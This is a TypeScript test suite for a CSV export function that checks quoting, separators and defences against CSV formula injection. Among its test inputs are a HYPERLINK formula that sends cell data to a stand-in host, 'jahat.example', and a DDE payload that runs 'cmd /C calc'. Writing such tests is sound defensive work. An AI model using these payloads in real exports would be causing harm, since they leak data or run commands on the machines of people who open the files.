import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { writeCsv } from "./csv.ts";
import type { Cell, Table } from "./table.ts";

const tableOf = (...texts: Cell[]): Table => ({
  columns: [{ name: "Judul", kind: "text" }],
  rows: texts.map((text) => [text]),
});

const line = (cell: Cell): string => writeCsv(tableOf(cell), ";").split("\r\n").slice(1).join("\r\n");

describe("a CSV table", () => {
  test("a CSV table has a byte order mark, column names, and the separators of the language", () => {
    const table: Table = {
      columns: [
        { name: "Judul", kind: "text" },
        { name: "Umur (hari)", kind: "number" },
        { name: "Masuk", kind: "time" },
      ],
      rows: [
        ["Lubang, besar; sekali", 3.5, { time: "2026-11-24T09:15" }],
        [undefined, undefined, undefined],
      ],
    };
    const lines = ['"Lubang, besar; sekali";3,5;2026-11-24 09:15', ";;", ""];
    assert.equal(writeCsv(table, ";"), ['\uFEFF"Judul";"Umur (hari)";"Masuk"', ...lines].join("\r\n"));
    assert.match(
      writeCsv(table, ","),
      /^\uFEFF"Judul","Umur \(hari\)","Masuk"\r\n"Lubang, besar; sekali",3\.5,2026/,
    );
  });

  test("a CSV table doubles quotes and keeps line breaks within a cell", () => {
    assert.equal(line('Kata "lubang"\nbesar'), '"Kata ""lubang""\nbesar"\r\n');
  });

  // The characters listed by OWASP: https://owasp.org/www-community/attacks/CSV_Injection
  for (const start of ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
    test(`a CSV table prevents a text that begins with ${JSON.stringify(start)} from becoming a formula`, () => {
      for (const before of ["", " ", "\u00A0", "\u200B", "\uFEFF", "\n"]) {
        const text = `${before}${start}HYPERLINK("https://jahat.example?"&A1)`;
        // A line break starts a new cell, as a separator does.
        const guarded = before === "\n" && !/\s/.test(start) ? `${before}'${text.slice(1)}` : text;
        assert.equal(line(text), `"'${guarded.replaceAll('"', '""')}"\r\n`);
      }
    });

  test("a CSV table leaves other texts unchanged, even with such a character in the middle", () => {
    for (const text of [
      "Jalan 2+3",
      "a=b",
      "'=1",
      "Lampu - mati",
      "surel a@b.id",
      "5 - 3",
      "Lampu, pohon; kabel",
      "",
    ])
      assert.equal(line(text), `"${text}"\r\n`);
  });

  test("a CSV table prevents a text from ending its cell and starting a formula in the next one", () => {
    for (const [text, written] of [
      ['";=1+1;"', '";\'=1+1;"'],
      ['",=1+1,"', '",\'=1+1,"'],
      ['"\r\n=1+1', "\"\r\n'=1+1"],
    ] as const)
      assert.equal(line(text), `"${written.replaceAll('"', '""')}"\r\n`);
  });

  test("a CSV table prevents formulas even where a spreadsheet expects another separator", () => {
    for (const separator of [",", ";", "\t"])
      for (const space of ["", " ", "\u200B"])
        for (const start of ["=", "+", "-", "@", "＝"]) {
          const text = `Jalan rusak${separator}${space}${start}cmd|' /C calc'!A0`;
          const cells = line(text)
            .slice(1)
            .split(/[,;\t]/);
          assert.equal(cells[1], `${space}'${start}cmd|' /C calc'!A0"\r\n`);
        }
  });
});
